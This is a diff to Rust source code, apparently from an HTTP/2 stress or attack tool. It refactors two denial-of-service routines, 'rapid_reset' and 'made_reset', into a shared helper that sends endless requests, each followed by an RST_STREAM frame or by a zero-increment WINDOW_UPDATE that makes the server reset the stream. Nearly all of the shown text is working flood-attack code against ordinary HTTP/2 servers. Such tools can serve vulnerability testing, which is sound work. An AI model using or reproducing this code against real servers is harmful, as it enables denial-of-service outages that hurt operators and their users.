@@ -161,31 +161,24 @@ fn stream_id(round: u32) -> u32 {
 }
 
 pub(crate) async fn rapid_reset(plan: &Plan, time: Duration) -> Seen {
-    let block = request(plan, plan.target.path());
-    attack(plan, time, &[], || {
-        let block = block.clone();
-        move |round| {
-            let id = stream_id(round);
-            [
-                frame(HEADERS, END_STREAM | END_HEADERS, id, &block),
-                frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()),
-            ]
-            .concat()
-        }
-    })
-    .await
+    each_followed_by(plan, time, RST_STREAM, 8).await
 }
 
 pub(crate) async fn made_reset(plan: &Plan, time: Duration) -> Seen {
+    // A window opened by nothing is an error of the stream (section 6.9), which the server resets.
+    each_followed_by(plan, time, WINDOW_UPDATE, 0).await
+}
+
+/// Requests without end, each with a frame of this kind and number right behind it.
+async fn each_followed_by(plan: &Plan, time: Duration, kind: u8, number: u32) -> Seen {
     let block = request(plan, plan.target.path());
     attack(plan, time, &[], || {
         let block = block.clone();
         move |round| {
             let id = stream_id(round);
-            // A window opened by nothing is an error of the stream (section 6.9), which the server resets.
             [
                 frame(HEADERS, END_STREAM | END_HEADERS, id, &block),
-                frame(WINDOW_UPDATE, 0, id, &0_u32.to_be_bytes()),
+                frame(kind, 0, id, &number.to_be_bytes()),
             ]
             .concat()
         }
